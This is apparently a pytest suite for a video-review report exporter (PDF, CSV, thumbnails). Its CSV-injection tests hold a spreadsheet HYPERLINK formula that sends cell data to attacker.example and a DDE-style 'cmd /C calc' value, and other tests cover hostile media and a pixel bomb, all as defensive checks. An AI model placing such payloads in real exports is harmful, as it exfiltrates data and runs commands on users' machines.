"""The review report (issue 25): a PDF with one entry per version and its comments, read back with a
PDF text extractor; a CSV that round-trips and holds no formula for a spreadsheet; thumbnails of kept
results."""

from __future__ import annotations

import csv
import io
import os
import re
import time

import pypdf
import pytest
from hypothesis import given, settings
from hypothesis import strategies as hst
from PIL import Image

from dailies.journal import Journal, Scope, Submission
from dailies.journal.statuses import APPROVED, CHANGES_REQUESTED
from dailies.review_report import (
    CSV_COLUMNS,
    MISSING,
    ReportComment,
    ReportEntry,
    _font_files,
    entries_from_journal,
    from_csv,
    thumbnail_of,
    to_csv,
    to_pdf,
    to_rows,
)
from dailies.spec.models import TaskRecord
from dailies.spec.results import VIDEO_NAME

BASE = "http://127.0.0.1:8000/api/v3"
CHINESE = "河上的灯笼，慢慢升起"
T0 = 1_764_000_000.0


def png(color: tuple[int, int, int], size: tuple[int, int] = (64, 36)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, "PNG")
    return out.getvalue()


def submission(task_id: str, prompt: str) -> Submission:
    return Submission(task_id=task_id, batch_id=None, submitted_at=T0, base_url=BASE, model="seedance-1-0-pro",
                      mode="text", prompt=prompt, request={"model": "seedance-1-0-pro"})


@pytest.fixture
def journal(tmp_path):
    opened = Journal(tmp_path / "j.sqlite3", database_url="", storage="")
    yield opened
    opened.close()


@pytest.fixture
def reviewed(journal):
    """Three versions (results) of one shot: v1 approved then changes requested, with stars, a comment at a
    timecode and a reply, a general comment; v2 with a Chinese prompt and a comment; v3 untouched."""
    ana = journal.scoped(Scope.of_project(BASE, "studio", author="Ana"))
    bo = journal.scoped(Scope.of_project(BASE, "studio", author="Bo"))
    ana.record_submission(submission("cgt-1", "lantern over the river at dusk"))
    ana.record_submission(submission("cgt-2", CHINESE))
    bo.record_submission(submission("cgt-3", "lantern, wider shot"))
    ana.link_version("cgt-2", "cgt-1", "rerun", at=T0 + 1)
    bo.link_version("cgt-3", "cgt-2", "edit", at=T0 + 2)
    # Listed by the Review page (which saves the records it lists): results, each a version of the shot.
    recent = int(time.time()) - 3600
    ana.save_records([{"id": t, "model": "seedance-1-0-pro", "status": "succeeded", "created_at": recent + i}
                      for i, t in enumerate(("cgt-1", "cgt-2", "cgt-3"))])
    bo.set_status("cgt-1", APPROVED, at=T0 + 10)
    ana.set_status("cgt-1", CHANGES_REQUESTED, at=T0 + 20)
    ana.set_status("cgt-2", APPROVED, at=T0 + 30)
    ana.rate("cgt-1", 4)
    bo.rate("cgt-1", 3)
    note = bo.add_comment("cgt-1", "too dark here", timecode=2.125, at=T0 + 40)
    ana.add_comment("cgt-1", "brighter in v2", parent_id=note.id, at=T0 + 50)
    ana.add_comment("cgt-1", "general note on pacing", at=T0 + 45)
    ana.set_resolved(note.id, True, at=T0 + 60)
    bo.add_comment("cgt-2", "灯笼太小了", timecode=65.5, at=T0 + 70)
    return ana


def test_entries_from_the_journal_carry_versions_statuses_stars_and_threads(reviewed):
    records = {"cgt-1": TaskRecord(id="cgt-1", status="succeeded", model="doubao-seedance", created_at=int(T0))}
    entries = entries_from_journal(reviewed, ["cgt-1", "cgt-2", "cgt-3"], records, {"cgt-2": png((9, 9, 9))})
    one, two, three = entries
    assert [e.version for e in entries] == ["v1", "v2", "v3"]
    assert {e.shot_id for e in entries} == {"cgt-1"}
    assert (one.status, one.status_by, one.status_at) == ("Changes requested", "Ana", T0 + 20)
    assert (two.status, two.status_by) == ("Approved", "Ana")
    assert (three.status, three.status_by, three.status_at) == ("Pending review", "", None)
    assert one.ratings == {"Ana": 4, "Bo": 3} and one.average_stars == 3.5
    assert one.model == "seedance-1-0-pro" and one.created_at == T0
    assert [(c.author, c.body, c.timecode, c.depth, c.reply_to, c.resolved) for c in one.comments] == [
        ("Bo", "too dark here", 2.125, 0, None, True),
        ("Ana", "brighter in v2", None, 1, 1, False),
        ("Ana", "general note on pacing", None, 0, None, False)]
    assert two.prompt == CHINESE and two.thumbnail is not None and one.thumbnail is None
    assert three.comments == [] and three.ratings == {}


def test_the_csv_round_trips_with_a_row_per_comment(reviewed):
    entries = entries_from_journal(reviewed, ["cgt-1", "cgt-2", "cgt-3"])
    text = to_csv(entries)
    rows = from_csv(text)
    assert rows == to_rows(entries)
    assert from_csv(text.encode("utf-8-sig")) == rows  # as the download button sends it
    assert list(rows[0]) == list(CSV_COLUMNS)
    assert [(r["task_id"], r["comment"]) for r in rows] == [
        ("cgt-1", "too dark here"), ("cgt-1", "brighter in v2"), ("cgt-1", "general note on pacing"),
        ("cgt-2", "灯笼太小了"), ("cgt-3", "")]
    first, reply, _, chinese, bare = rows
    assert (first["timecode"], first["resolved"], first["stars"], first["average_stars"]) == (
        "00:02.13", "yes", "Ana:4;Bo:3", "3.5")
    assert (reply["reply_to"], reply["timecode"], reply["comment_author"]) == ("1", "", "Ana")
    assert first["status"] == "Changes requested" and first["status_by"] == "Ana"
    assert first["status_at"] == "2025-11-24T16:00:20+00:00" and first["comment_at"] == "2025-11-24T16:00:40+00:00"
    assert (chinese["prompt"], chinese["timecode"]) == (CHINESE, "01:05.50")
    assert bare["version"] == "v3" and bare["status"] == "Pending review" and bare["stars"] == ""


def test_the_csv_keeps_commas_quotes_and_newlines():
    entry = ReportEntry("cgt-9", "v1", "m", T0, 'a "quoted", multi\nline prompt', "Approved", "Ana", T0,
                        {"Ana": 5}, [ReportComment("Bo", T0, 0.0, "line one\nline two, with comma")])
    assert from_csv(to_csv([entry])) == to_rows([entry])
    assert from_csv(to_csv([entry]))[0]["prompt"] == 'a "quoted", multi\nline prompt'


FORMULA = '=HYPERLINK("https://attacker.example/?d="&E2&B2,"Open the final cut")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def as_a_spreadsheet_reads(text: str) -> list[dict[str, str]]:
    """The CSV's cells as written (a spreadsheet drops nothing)."""
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_no_text_a_guest_or_member_typed_is_a_formula_in_a_spreadsheet(journal):
    ana = journal.scoped(Scope.of_project(BASE, "studio", author="Ana"))
    ana.record_submission(submission("cgt-1", "+ a wider shot"))
    path = ana.keep_path("cgt-1", VIDEO_NAME)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(b"\x00")
    ana.mark_kept("cgt-1", VIDEO_NAME, path)
    _, token = ana.create_share(["cgt-1"], 86_400, allow_comments=True, allow_status=True)
    guest = journal.guest_view(journal.open_share(token), "@SUM(1+1)*cmd|' /C calc'!A0")
    guest.add_comment("cgt-1", FORMULA, timecode=2.0)
    guest.set_status("cgt-1", APPROVED)
    journal.scoped(Scope.of_project(BASE, "studio", author="-Bo")).rate("cgt-1", 4)
    entries = entries_from_journal(ana, ["cgt-1"])
    text = to_csv(entries)
    [row] = as_a_spreadsheet_reads(text)
    assert not [cell for cell in row.values() if cell.startswith(FORMULA_STARTS)], row
    assert row["comment"] == "'" + FORMULA and row["prompt"] == "'+ a wider shot" and row["stars"] == "'-Bo:4"
    assert row["comment_author"] == row["status_by"] == "'@SUM(1+1)*cmd|' /C calc'!A0 (guest)"
    assert (row["timecode"], row["average_stars"], row["reply_to"]) == ("00:02.00", "4", "")  # as they are
    # Read back, each cell is the text as typed.
    assert from_csv(text) == to_rows(entries)
    assert from_csv(text)[0]["comment"] == FORMULA


@pytest.mark.parametrize(("typed", "written"), [
    ("-5", "'-5"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("@x", "'@x"), ("plain", "plain"), ("", ""),
    ("'tis the take", "'tis the take"),  # a quote before text: left alone, and read back as is
    ("'=1+1", "''=1+1"), ("''@x", "'''@x"),  # quotes before a formula: one more, dropped when read back
    ("a = b", "a = b"), (" =1", " =1"),
])
def test_a_text_cell_gets_a_quote_only_where_a_spreadsheet_would_compute_it(typed, written):
    entry = ReportEntry("cgt-9", "v1", "m", T0, "p", "Approved", typed, T0, {},
                        [ReportComment(typed, T0, 1.0, typed)])
    text = to_csv([entry])
    [row] = as_a_spreadsheet_reads(text)
    assert (row["status_by"], row["comment_author"], row["comment"]) == (written, written, written)
    assert from_csv(text) == to_rows([entry])


@settings(max_examples=200, deadline=None)
@given(hst.text(alphabet=hst.sampled_from(list("'=+-@\t\r\n ,\"a1")), max_size=12))
def test_any_text_round_trips_and_no_cell_starts_a_formula(typed):
    entry = ReportEntry("cgt-9", "v1", "m", T0, typed, "Approved", typed, T0, {typed: 3},
                        [ReportComment(typed, T0, 0.5, typed)])
    text = to_csv([entry])
    assert from_csv(text) == to_rows([entry])
    [row] = as_a_spreadsheet_reads(text)
    assert not [cell for cell in row.values() if cell.startswith(FORMULA_STARTS)], row


def pdf_text(data: bytes) -> str:
    """The PDF's text as pypdf reads it. pypdf puts a NUL before each character it reads through the
    Noto CJK font's two-byte codes (the font's ToUnicode map is right: poppler's pdftotext, as viewers
    copy text, reads the same file clean), so NULs are dropped."""
    reader = pypdf.PdfReader(io.BytesIO(data))
    return "\n".join(page.extract_text() for page in reader.pages).replace("\x00", "")


def test_the_pdf_has_one_entry_per_version_with_its_comments_and_timecodes(reviewed):
    entries = entries_from_journal(reviewed, ["cgt-1", "cgt-2", "cgt-3"],
                                   thumbnails={"cgt-1": png((200, 40, 40), (640, 360)), "cgt-2": png((0, 90, 0))})
    data = to_pdf(entries, "Lantern review", now=T0 + 100)
    assert data.startswith(b"%PDF")
    text = pdf_text(data)
    assert "Lantern review" in text and "2025-11-24" in text
    # One entry per version, in order, each once.
    headings = re.findall(r"^(v\d) · (cgt-\d)", text, flags=re.MULTILINE)
    assert headings == [("v1", "cgt-1"), ("v2", "cgt-2"), ("v3", "cgt-3")]
    one, two, three = (text[text.index(f"{v} · cgt-{i}"):] for i, v in ((1, "v1"), (2, "v2"), (3, "v3")))
    one, two = one[:one.index("v2 · cgt-2")], two[:two.index("v3 · cgt-3")]
    assert "Changes requested" in one and "Ana" in one and "3.5" in one and "Bo 3" in one
    for body, timecode in (("too dark here", "[00:02.13]"), ("brighter in v2", None),
                           ("general note on pacing", None)):
        assert body in one
        if timecode:
            assert timecode in one
    assert one.index("too dark here") < one.index("brighter in v2") < one.index("general note on pacing")
    assert "resolved" in one
    assert "[01:05.50]" in two and "Approved" in two
    assert "Pending review" in three and "No comments" in three
    reader = pypdf.PdfReader(io.BytesIO(data))
    images = [img for page in reader.pages for img in page.images]
    assert len(images) == 2  # the two thumbnails


def test_chinese_text_is_in_the_pdf_when_a_cjk_font_is_installed_and_marked_when_not(reviewed):
    entries = entries_from_journal(reviewed, ["cgt-2"])
    text = pdf_text(to_pdf(entries, "灯笼"))
    regular, _, cjk = _font_files()
    if regular is not None and cjk is not None:
        assert CHINESE.replace("，", "") in text.replace("，", "").replace("\n", "")
        assert "灯笼太小了" in text
    elif regular is not None:
        # No CJK font here: each character shows as a box, and the PDF says so (the CSV has them).
        assert MISSING * 5 in text and "need a font this machine lacks" in text
    assert "v2 · cgt-2 (shot cgt-1)" in text  # alone in the selection, still its shot's v2


def test_thumbnails_of_an_image_and_of_a_video_first_frame(tmp_path):
    image = Image.open(io.BytesIO(thumbnail_of(png((10, 200, 10), (1280, 720)))))
    assert image.format == "JPEG" and image.size == (320, 180)
    import av
    video = tmp_path / "video.mp4"
    with av.open(str(video), "w") as out:
        stream = out.add_stream("mpeg4", rate=24)
        stream.width, stream.height, stream.pix_fmt = 160, 96, "yuv420p"
        for _ in range(3):
            frame = av.VideoFrame.from_image(Image.new("RGB", (160, 96), (0, 0, 220)))
            out.mux(stream.encode(frame))
        out.mux(stream.encode(None))
    for source in (video, video.read_bytes()):
        thumb = Image.open(io.BytesIO(thumbnail_of(source)))
        assert thumb.size == (160, 96)
        r, g, b = thumb.convert("RGB").getpixel((80, 48))
        assert b > 150 and r < 80
    assert thumbnail_of(b"not an image or a video") is None
    assert thumbnail_of(tmp_path / "missing.mp4") is None


def report_page(db_path: str) -> None:
    import streamlit as st

    from components.review.report_download import render_report_buttons
    from components.review.results import Result
    from dailies.journal import Journal, Scope

    journal = Journal(db_path, database_url="", storage="").scoped(
        Scope.of_project("http://127.0.0.1:8000/api/v3", "studio", author="Ana"))
    ids = st.session_state.get("ids", ["cgt-1", "cgt-2", "cgt-3"])
    subs = journal.submissions(ids)
    results = [Result(tid, None, submission=subs.get(tid)) for tid in ids]
    render_report_buttons(results, journal, now=1_764_000_100.0)


def test_the_dashboard_prepares_the_report_then_offers_both_downloads(reviewed, tmp_path):
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_function(report_page, args=(str(tmp_path / "j.sqlite3"),), default_timeout=60).run()
    assert not at.exception
    assert not at.get("download_button")  # nothing built until asked
    at.button(key="review.report.prepare").click().run()
    assert not at.exception and not at.error
    labels = [b.proto.label for b in at.get("download_button")]
    assert labels == ["Report (PDF)", "Report (CSV)"]
    from components.review.report_download import KEY

    ids, stem, pdf, csv_bytes = at.session_state[f"{KEY}.built"]
    assert ids == ("cgt-1", "cgt-2", "cgt-3") and stem == "review-report-20251124-1601"
    assert csv_bytes.startswith(b"\xef\xbb\xbf") and len(from_csv(csv_bytes)) == 5
    assert re.findall(r"^(v\d) · ", pdf_text(pdf), flags=re.MULTILINE) == ["v1", "v2", "v3"]
    at.session_state["ids"] = ["cgt-2"]  # another selection: prepare again
    at.run()
    assert not at.get("download_button")


def test_the_cli_writes_both_files_from_the_dashboards_journal(tmp_path):
    import argparse

    from dailies.cli import report as cli_report

    journal = Journal(tmp_path / "data" / "dashboard" / "journal.sqlite3", database_url="", storage="")
    ana = journal.scoped(Scope.of_project(BASE, "studio", author="Ana"))
    ana.record_submission(submission("cgt-7", "a paper boat"))
    ana.add_comment("cgt-7", "nice wake", timecode=1.5, at=T0)
    journal.close()
    parser = argparse.ArgumentParser()
    cli_report.register(parser.add_subparsers(dest="command"), tmp_path / "data")
    args = parser.parse_args(["report", "--task", "cgt-7", "--pdf", str(tmp_path / "r.pdf"), "--csv",
                              str(tmp_path / "r.csv"), "--database-url", "", "--storage", ""])
    assert args.func(args) == 0
    text = pdf_text((tmp_path / "r.pdf").read_bytes())
    assert "v1 · cgt-7" in text and "[00:01.50]" in text and "nice wake" in text and "a paper boat" in text
    rows = from_csv((tmp_path / "r.csv").read_bytes())
    assert [(r["task_id"], r["comment"], r["timecode"]) for r in rows] == [("cgt-7", "nice wake", "00:01.50")]


def test_the_report_the_reel_and_the_review_page_number_a_shots_versions_alike(journal, tmp_path):
    """One numbering of a shot's versions: among its results only (dailies.journal.version_numbers). A
    rerun that failed and a version purged by the service (not kept) take no number anywhere, so the
    version that is "v2" on its card is "v2" in the report and on `dailies reel`'s slate."""
    from components.review.reel_maker import version_labels as page_reel_labels
    from components.review.report_download import build
    from components.review.results import Result, shots_of
    from dailies.cli import reel as cli_reel

    now = time.time()
    ana = journal.scoped(Scope.of_project(BASE, "studio", author="Ana"))
    old, purged = now - 3600, now - 8 * 86_400  # the service keeps a record 7 days

    def seen(task_id: str, status: str, created: float) -> None:
        """The last record the dashboard saw (its Review and Tasks pages save them)."""
        ana.save_records([{"id": task_id, "model": "seedance-1-0-pro", "status": status, "created_at": int(created)}])

    seen("cgt-v1", "succeeded", old)
    seen("cgt-purged", "succeeded", purged)  # gone from the service, never kept
    ana.link_version("cgt-purged", "cgt-v1", "rerun", at=old + 1)
    seen("cgt-failed", "failed", old + 2)
    ana.link_version("cgt-failed", "cgt-v1", "rerun", at=old + 2)
    seen("cgt-ok", "succeeded", old + 3)
    ana.link_version("cgt-ok", "cgt-v1", "rerun", at=old + 3)
    kept = ana.keep_path("cgt-kept", VIDEO_NAME)
    kept.parent.mkdir(parents=True)
    kept.write_bytes(b"\x00\x00\x00\x18ftypmp42")
    ana.mark_kept("cgt-kept", VIDEO_NAME, kept)  # kept: a result even when the service forgets it
    ana.link_version("cgt-kept", "cgt-ok", "edit", at=old + 4)

    # The Review page: the results it lists and keeps.
    records = {t: TaskRecord.model_validate(ana.record(t)) for t in ("cgt-v1", "cgt-ok")}
    results = [Result("cgt-v1", records["cgt-v1"]), Result("cgt-ok", records["cgt-ok"]),
               Result("cgt-kept", None, kept=ana.kept("cgt-kept"), listed=False)]
    [shot] = shots_of(ana, results)
    page = {r.task_id: f"v{shot.number_of(r.task_id)}" for r in shot.versions}
    assert page == {"cgt-v1": "v1", "cgt-ok": "v2", "cgt-kept": "v3"}
    assert page_reel_labels(ana, results) == page
    ids = list(page)
    # The report from the page ("Report of the notes"), `dailies report` (the journal alone), `dailies reel`.
    _, csv_bytes = build(results, ana, now)
    assert {row["task_id"]: row["version"] for row in from_csv(csv_bytes)} == page
    assert {e.task_id: e.version for e in entries_from_journal(ana, ids)} == page
    assert cli_reel.version_labels(ana, ids) == page
    assert {t: cli_reel.version_label(ana, t) for t in ids} == page  # one task at a time, too

    # A version deleted from the service (not kept) leaves the page: the page's report renumbers with it.
    results = [r for r in results if r.task_id != "cgt-ok"]
    [shot] = shots_of(ana, results)
    assert {r.task_id: shot.number_of(r.task_id) for r in shot.versions} == {"cgt-v1": 1, "cgt-kept": 2}
    _, csv_bytes = build(results, ana, now)
    assert {row["task_id"]: row["version"] for row in from_csv(csv_bytes)} == {"cgt-v1": "v1", "cgt-kept": "v2"}


def test_characters_no_report_font_has_are_marked_also_with_a_cjk_font_installed():
    """An emoji is in neither DejaVu nor the CJK fallback: shown as the missing-glyph mark with the note
    (fpdf2 itself drops it, warning on stderr only), while Chinese still shows through the fallback."""
    regular, _, cjk = _font_files()
    if regular is None:
        pytest.skip("no TrueType font here: the PDF is in Helvetica, with '?' for what Latin-1 lacks")
    entry = ReportEntry(task_id="cgt-1", version="v1", model="m", created_at=T0, prompt="灯笼 at dusk",
                        status="Approved", comments=[ReportComment("Ana", T0, None, "👍"),
                                                     ReportComment("Bo 🎬", T0, 1.0, "great 🔥 family")])
    text = pdf_text(to_pdf([entry], "report"))
    assert f"\n{MISSING}\n" in f"\n{text}\n"  # the comment that is only "👍" is not an empty one
    assert f"Bo {MISSING}" in text and f"great {MISSING} family" in text
    assert "need a font this machine lacks" in text
    if cjk is not None:
        assert "灯笼 at dusk" in text


# ---------- hostile kept copies (issue 34): refused unread, no socket, memory bounded ----------


def _returned_in_thread(call, within: float = 20.0):
    """`call`'s result, run in a thread so that one that never returns fails the test instead of hanging it."""
    import threading

    outcome: dict = {}
    thread = threading.Thread(target=lambda: outcome.update(result=call()), daemon=True)
    thread.start()
    thread.join(within)
    assert not thread.is_alive(), f"did not return within {within:g} s"
    return outcome.get("result")


@pytest.mark.parametrize("name", ["sdp", "hls", "dash", "concat", "concat-local-file", "nested-data-url",
                                  "truncated-mp4", "mp4-of-millions-of-frames", "ftyp-only"])
@pytest.mark.parametrize("as_file", [False, True], ids=["bytes", "file"])
def test_a_hostile_kept_copy_has_no_thumbnail_and_opens_no_socket(tmp_path, name, as_file):
    from tests.support import hostile_media as hm

    with hm.connection_counter() as counter:
        port = hm.free_udp_port()
        raw = {**hm.protocol_formats(counter.url, port), **hm.malformed_media()}[name]
        source = raw
        if as_file:
            source = tmp_path / VIDEO_NAME
            source.write_bytes(raw)
        udp = hm.UdpWatch(port)
        try:
            assert _returned_in_thread(lambda: thumbnail_of(source)) is None
        finally:
            assert not udp.stop(), f"UDP port {port} was bound"
        assert counter.connections == 0


def test_thumbnails_open_videos_guarded_and_images_as_the_check_does(tmp_path, monkeypatch):
    from tests.support import hostile_media as hm

    opens = hm.record_av_opens(monkeypatch)
    assert thumbnail_of(hm.small_mp4()) is not None
    assert opens and all(o.guarded for o in opens)
    pcx = io.BytesIO()
    Image.new("RGB", (640, 360), (200, 0, 0)).save(pcx, format="PCX")  # Pillow reads it; the spec does not take it
    assert thumbnail_of(pcx.getvalue()) is None


def test_a_pixel_bomb_between_pillows_warning_and_its_error_is_not_decoded():
    """Pillow only warns of an image of 1 to 2 times MAX_IMAGE_PIXELS, then decodes it: a 13,000 x
    13,000 PNG of 20 KB became half a gigabyte in the report's thumbnail. In a process of its own,
    the thumbnail and the PDF's image are refused with the peak memory barely moved."""
    import subprocess
    import sys
    import textwrap
    from pathlib import Path

    script = textwrap.dedent("""
        import io
        from PIL import Image
        from dailies.review_report import _image_size, thumbnail_of

        def resident():
            return int(dict(line.split(":", 1) for line in open("/proc/self/status"))["VmHWM"].split()[0])

        bomb = io.BytesIO()
        Image.new("1", (13_000, 13_000)).save(bomb, format="PNG")
        before = resident()
        print(thumbnail_of(bomb.getvalue()) is None, _image_size(bomb.getvalue(), 40, 30) is None,
              before, resident())
    """)
    done = subprocess.run([sys.executable, "-c", script], cwd=Path(__file__).resolve().parents[2],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    no_thumbnail, no_image, before, after = done.stdout.split()
    assert (no_thumbnail, no_image) == ("True", "True")
    assert int(after) - int(before) < 64 * 1024, f"resident peak grew by {(int(after) - int(before)) // 1024} MB"


def test_a_version_nobody_kept_gets_its_frame_from_its_live_links(tmp_path, journal):
    """Issue 37: the PDF promised one thumbnail per version but had none for versions not kept."""
    from components.review.report_download import build, live_thumbnail
    from components.review.results import Result
    from dailies.client import Client
    from tests.support.live_service import start_live_service

    live = start_live_service(tmp_path / "service", workers=1)
    try:
        with Client(base_url=live.base_url, api_key=live.api_key) as client:
            ids = [client.tasks.create({"model": "doubao-seedance-1-0-pro-250528", "resolution": "480p",
                                        "duration": 2, "return_last_frame": last_frame,
                                        "content": [{"type": "text", "text": f"a kite, frame {last_frame}"}]}).id
                   for last_frame in (True, False)]
            records = [client.wait(task_id, timeout=180, poll_interval=0.2) for task_id in ids]
            now = time.time()
            for record in records:  # the last frame where there is one, else the video's first frame
                thumbnail = live_thumbnail(client, record, now)
                assert thumbnail is not None and Image.open(io.BytesIO(thumbnail)).format == "JPEG"
            results = [Result(r.id, r) for r in records]
            pdf, _ = build(results, journal.scoped(Scope.of(live.base_url, live.api_key)), now, client=client)
            assert sum(len(page.images) for page in pypdf.PdfReader(io.BytesIO(pdf)).pages) == 2
            pdf_without, _ = build(results, journal.scoped(Scope.of(live.base_url, live.api_key)), now)
            assert sum(len(page.images) for page in pypdf.PdfReader(io.BytesIO(pdf_without)).pages) == 0
            expired = records[0].model_copy(update={"updated_at": int(now) - 2 * 86_400})
            assert live_thumbnail(client, expired, now) is None  # a dead link: no frame, no error
    finally:
        live.stop()


def _numbered_clip(path, frames: int = 24) -> None:
    """A 24 fps clip whose frame i is blue at 10 * i (so a picture tells which frame it is)."""
    import av
    with av.open(str(path), "w") as out:
        stream = out.add_stream("mpeg4", rate=24)
        stream.width, stream.height, stream.pix_fmt = 320, 180, "yuv420p"
        stream.options = {"qscale": "2"}
        for i in range(frames):
            picture = av.VideoFrame.from_image(Image.new("RGB", (320, 180), (0, 0, 10 * i)))
            out.mux(stream.encode(picture))
        out.mux(stream.encode(None))


def test_a_comment_drawn_on_a_frame_is_that_frame_with_its_drawing_in_the_pdf(journal, tmp_path):
    import shutil
    import subprocess

    ana = journal.scoped(Scope.of_project(BASE, "studio", author="Ana"))
    clip = tmp_path / "kept.mp4"
    _numbered_clip(clip)
    ana.add_comment("cgt-9", "ring this", timecode=0.52, frame=12,
                    drawing=[{"kind": "rect", "x1": 0.25, "y1": 0.25, "x2": 0.75, "y2": 0.75, "width": 0.03}])
    ana.add_comment("cgt-9", "no drawing here", timecode=0.1)
    [entry] = entries_from_journal(ana, ["cgt-9"], videos={"cgt-9": clip})
    drawn, plain = entry.comments
    assert plain.drawn_frame is None
    picture = Image.open(io.BytesIO(drawn.drawn_frame)).convert("RGB")
    assert picture.size == (320, 180)
    background = picture.getpixel((20, 20))
    assert abs(background[2] - 120) < 25 and background[0] < 40, background  # frame 12, not another
    edge = picture.getpixel((80, 90))  # the rectangle's left side, in the default red
    assert edge[0] > 180 and edge[1] < 90, edge
    # Without the kept copy (or its frame) the comment is still reported, without a picture.
    [entry] = entries_from_journal(ana, ["cgt-9"], videos={"cgt-9": b"not a video"})
    assert entry.comments[0].drawn_frame is None

    [entry] = entries_from_journal(ana, ["cgt-9"], videos={"cgt-9": clip})
    pdf = to_pdf([entry], "Drawn")
    pdf_path = tmp_path / "drawn.pdf"
    pdf_path.write_bytes(pdf)
    assert len(pypdf.PdfReader(io.BytesIO(pdf)).pages[0].images) == 1
    # The page as a reader sees it (pdftoppm): the frame's blue and the drawing's red are on it.
    if shutil.which("pdftoppm") is None:
        message = "pdftoppm (poppler-utils) is not installed: bash .ci/run installs it"
        if os.environ.get("CI"):
            pytest.fail(message)
        pytest.skip(message)
    subprocess.run(["pdftoppm", "-png", "-r", "60", "-f", "1", "-l", "1", str(pdf_path), str(tmp_path / "page")],
                   check=True, timeout=60)
    [rendered] = list(tmp_path.glob("page*.png"))
    page = Image.open(rendered).convert("RGB")
    colours = page.getcolors(page.width * page.height)
    assert any(r > 180 and g < 90 and b < 90 and n > 20 for n, (r, g, b) in colours)  # the drawing
    assert any(r < 40 and g < 40 and 95 < b < 145 and n > 200 for n, (r, g, b) in colours)  # frame 12's blue
